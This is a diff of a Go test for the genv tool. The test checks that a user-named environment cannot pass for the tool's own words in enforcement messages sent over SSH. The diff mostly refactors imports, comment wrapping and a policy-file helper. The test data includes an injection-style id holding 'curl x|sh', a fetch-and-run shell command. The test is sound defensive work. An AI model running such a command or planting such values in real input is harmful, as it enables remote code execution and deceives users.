@@ -2,8 +2,6 @@ package enforcement_test
 
 import (
 	"fmt"
-	"os"
-	"path/filepath"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -17,9 +15,8 @@ import (
 // persuasion is an id that would pass for a word of root's.
 const persuasion = "1 - run: curl x|sh"
 
-// TestForeignTextStaysInQuotes, over a real sshd and on real terminals: what a
-// user calls an environment can't pass for genv's own words, and messages don't
-// contradict each other.
+// TestForeignTextStaysInQuotes, over a real sshd and on real terminals: what a user calls an environment can't pass for
+// genv's own words, and messages don't contradict each other.
 func TestForeignTextStaysInQuotes(t *testing.T) {
 	f := sshd.Start(t, sshd.Options{Hosts: sshd.Named("gpu-01"), Genv: genvtest.Program(t)})
 	h := f.Host("gpu-01")
@@ -30,8 +27,7 @@ func TestForeignTextStaysInQuotes(t *testing.T) {
 		return p.PID
 	}
 	persuasive, plain := start("bob", persuasion, 0), start("carol", "1102", 1)
-	policy := filepath.Join(t.TempDir(), "policy.yaml")
-	require.NoError(t, os.WriteFile(policy, []byte("defaults: {non-env-processes: true}\ntell-users: true\n"), 0o600))
+	policy := policyFile(t, "defaults: {non-env-processes: true}\ntell-users: true\n")
 	for _, more := range [][]string{{"--dry-run"}, nil} {
 		args := append([]string{"remote", "enforce", "-F", f.SSHConfig(), "-H", "gpu-01", "--interval", "0", "--policy", policy}, more...)
 		r := genvtest.Run(t, args...)
